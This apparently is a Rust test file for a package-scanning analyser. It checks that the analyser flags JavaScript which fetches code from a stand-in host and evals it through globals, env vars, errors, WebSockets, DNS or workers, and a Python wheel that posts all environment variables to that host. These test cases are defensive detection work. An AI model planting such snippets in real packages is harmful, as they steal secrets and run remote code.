use crate::flow::testing::{found, remote_code, script, wheel};
use crate::unpack::text_file as file;
use customs_model::{SinkKind, SourceKind};

fn runs_remote_code(code: &str) -> bool {
    let code = code.replace("TEXT", "fetch('https://a.invalid/b').then(r => r.text())");
    let mut entries = script(&code);
    entries.push(file("package/x.js", "eval(globalThis.z)"));
    remote_code(entries).is_some()
}

#[test]
fn what_all_code_sees_or_an_error_carries_keeps_where_it_comes_from() {
    for code in [
        "TEXT.then(t => { global.z = t; setTimeout(() => eval(global.z), 9) })",
        "TEXT.then(t => { globalThis.z = t; require('./x') })",
        "TEXT.then(t => { process.env.Z = t; eval(process.env.Z) })",
        "(async () => { try { throw new Error(await TEXT) } catch (e) { eval(e.message) } })()",
        "(async () => { try { throw await TEXT } catch (e) { eval(e) } })()",
        "const w = new WebSocket('wss://a.invalid'); w.onmessage = e => eval(e.data)",
        "require('dns').promises.resolveTxt('a.invalid').then(r => eval(r[0].join('')))",
        "const { Worker } = require('worker_threads'); TEXT.then(t => new Worker(new URL('data:text/javascript,' + t)))",
        "import('https://a.invalid/b')",
        "TEXT.then(t => { const o = { [t]: 1 }; for (const k in o) eval(k) })",
        "TEXT.then(t => eval(Object.keys({ [t]: 1 })[0]))",
    ] {
        assert!(runs_remote_code(code), "{code}");
    }
}

#[test]
fn what_is_put_elsewhere_or_is_not_thrown_has_no_part_in_it() {
    for code in [
        "TEXT.then(t => { global.z = t; eval(global.y) })",
        "TEXT.then(t => { process.env.Z = t; eval(process.env.Y) })",
        "(async () => { try { await TEXT; throw '1' } catch (e) { eval(e) } })()",
        "const w = { }; w.onmessage = e => eval(e.data)",
        "import('./x.js')",
    ] {
        assert!(!runs_remote_code(code), "{code}");
    }
}

/// Whether a wheel whose module begins so sends all of the environment.
fn sends_environment(read: &str) -> bool {
    let code = format!(
        "import os, requests\ndef read(k):\n    return {read}\n\
         def go():\n    out = []\n    for k in os.environ:\n        out.append(read(k))\n\
         \x20   requests.post('https://a.invalid', json=out)\n\
         go()\n"
    );
    let found = found(wheel(&code));
    let mut flows = found.flows.iter();
    flows.any(|flow| flow.source == SourceKind::Environment && flow.sink == SinkKind::Network)
}

#[test]
fn a_variable_of_one_tool_is_not_all_of_the_environment() {
    assert!(!sends_environment("os.environ['TOOL_' + k.upper()]"));
    assert!(!sends_environment("os.environ[f'TOOL_{k}']"));
    // Every name, in whatever way it is written, and those of others' secrets.
    assert!(sends_environment("os.environ[k]"));
    assert!(sends_environment("os.environ['' + k]"));
    assert!(sends_environment("os.environ['AWS_' + k[4:]]"));
}

#[test]
fn a_part_whose_name_is_known_in_part_may_be_each() {
    let runs = |key: &str| {
        let code =
            format!("(async () => {{ const o = {{ ab: await TEXT, c: '1' }}; eval(o[{key}]) }})()");
        runs_remote_code(&code)
    };
    assert!(runs("'a' + process.argv[2]"));
    assert!(runs("'ab'"));
    assert!(!runs("'c'"));
}
